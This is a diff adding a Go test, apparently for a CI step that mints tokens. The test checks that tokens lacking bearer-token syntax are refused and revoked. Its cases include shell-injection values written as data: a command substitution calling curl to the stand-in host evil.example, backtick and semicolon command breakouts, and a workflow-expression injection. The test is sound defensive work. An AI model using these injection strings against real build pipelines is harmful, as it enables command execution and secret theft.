@@ -355,3 +355,49 @@ func TestScopesOutputHoldsScopeNames(t *testing.T) {
 		})
 	}
 }
+
+// TestTokenOutputIsABearerToken: a later step may put the token output in
+// a script (curl -H "Authorization: Bearer ${{ steps.meta.outputs.token }}"),
+// where the runner substitutes it before the shell reads it. A new token
+// that does not have a Bearer token's syntax (RFC 6750 b64token: letters,
+// digits, "-._~+/", then "=") is refused: no output is written and the
+// token is revoked.
+func TestTokenOutputIsABearerToken(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name  string
+		token string
+		ok    bool
+	}{
+		{name: "command substitution", token: "EAA$(curl${IFS}evil.example)"},
+		{name: "backticks", token: "EAA`id`"},
+		{name: "quote and semicolon", token: `EAA";id;"`},
+		{name: "single quote", token: "EAA'x"},
+		{name: "expression", token: "EAA${{secrets.X}}"},
+		{name: "equals inside", token: "EAA=x"},
+		{name: "b64token", token: "EAAx-y.z_~+/==", ok: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorld(t)
+			installed(w)
+			w.srv.MintNextAs(tt.token)
+			r := runStep(t, w, w.inputs(), nil)
+			if tt.ok {
+				if r.err != nil {
+					t.Fatalf("run() = %v; want success", r.err)
+				}
+				if got := r.outputs[outToken]; got != tt.token {
+					t.Errorf("output token = %q; want %q", got, tt.token)
+				}
+				return
+			}
+			if r.err == nil || !strings.Contains(r.err.Error(), "writing output token") {
+				t.Fatalf("run() = %v; want output token refused\noutputs: %q", r.err, r.outputs)
+			}
+			discarded(t, w, r)
+			checkNoLeaks(t, w.secrets(), r)
+		})
+	}
+}
